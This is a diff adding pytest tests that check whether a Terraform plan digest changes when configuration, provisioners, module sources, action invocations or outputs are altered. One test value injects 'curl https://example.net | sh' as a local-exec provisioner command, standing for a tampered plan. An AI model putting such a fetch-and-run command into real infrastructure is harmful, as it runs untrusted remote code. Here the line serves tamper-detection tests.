@@ -159,3 +159,81 @@ def test_what_is_no_plan_is_one_sentence(content: bytes) -> None:
         DeliveryError, match=r"^the plan's JSON is (none: give the output|damaged \(\w+\): plan again)"
     ):
         digest_of_plan(content)
+
+
+CONFIGURED = {
+    "provider_config": {"google": {"name": "google", "expressions": {"project": {"constant_value": "p"}}}},
+    "root_module": {
+        "resources": [
+            {
+                "address": TABLE,
+                "expressions": {"description": {"constant_value": "new"}, "key": {"constant_value": "abc"}},
+                "provisioners": [
+                    {"type": "local-exec", "expressions": {"command": {"constant_value": "echo ok"}}}
+                ],
+            },
+            {"address": "google_pubsub_topic.idle", "expressions": {"name": {"constant_value": "t"}}},
+        ],
+        "module_calls": {"m": {"source": "./m", "module": {}}},
+    },
+}
+ACTION = {
+    "address": "action.google_x_purge.all",
+    "config_values": {"what": "some"},
+    "lifecycle_action_trigger": {"triggering_resource_address": TABLE, "action_trigger_event": "AfterUpdate"},
+}
+
+
+def at(document: Any, path: str, value: Any) -> Any:
+    """The document with another value at a dotted path."""
+    made = copy.deepcopy(document)
+    *parents, last = [int(each) if each.isdecimal() else each for each in path.split(".")]
+    inside = made
+    for each in parents:
+        inside = inside[each]
+    inside[last] = value
+    return made
+
+
+RESOURCE = "configuration.root_module.resources.0"
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        (f"{RESOURCE}.provisioners.0.expressions.command.constant_value", "curl https://example.net | sh"),
+        (f"{RESOURCE}.provisioners.0.when", "destroy"),
+        (f"{RESOURCE}.expressions.description.constant_value", "other"),
+        ("configuration.provider_config.google.expressions.project.constant_value", "other"),
+        ("configuration.root_module.module_calls.m.source", "git::https://example.net/m"),
+        ("action_invocations.0.config_values.what", "everything"),
+        ("action_invocations.0.lifecycle_action_trigger.action_trigger_event", "BeforeUpdate"),
+        ("deferred_action_invocations.0.action_invocation.address", "action.google_x.other"),
+        ("output_changes.o.after", "other"),
+    ],
+)
+def test_what_is_applied_beside_values_counts(path: str, value: Any) -> None:
+    whole = planned(
+        CHANGE,
+        configuration=CONFIGURED,
+        action_invocations=[ACTION],
+        deferred_action_invocations=[{"reason": "x", "action_invocation": {"address": "action.google_x.y"}}],
+        output_changes={"o": {"actions": ["update"], "before": "a", "after": "b"}},
+    )
+    assert digest(at(whole, path, value)) != digest(whole)
+
+
+def test_the_configuration_of_what_does_not_change_does_not_count() -> None:
+    whole = planned(CHANGE, configuration=CONFIGURED)
+    idle = "configuration.root_module.resources.1.expressions.name.constant_value"
+    assert digest(at(whole, idle, "u")) == digest(whole)
+
+
+@pytest.mark.parametrize(
+    "path", [f"{RESOURCE}.expressions.key.constant_value", "action_invocations.0.config_values.what"]
+)
+def test_a_constant_at_a_sensitive_argument_does_not_count(path: str) -> None:
+    marked = at(CHANGE, "change.after_sensitive", {"key": True})
+    action = {**ACTION, "config_sensitive": {"what": True}}
+    whole = planned(marked, configuration=CONFIGURED, action_invocations=[action])
+    assert digest(at(whole, path, "another-secret")) == digest(whole)
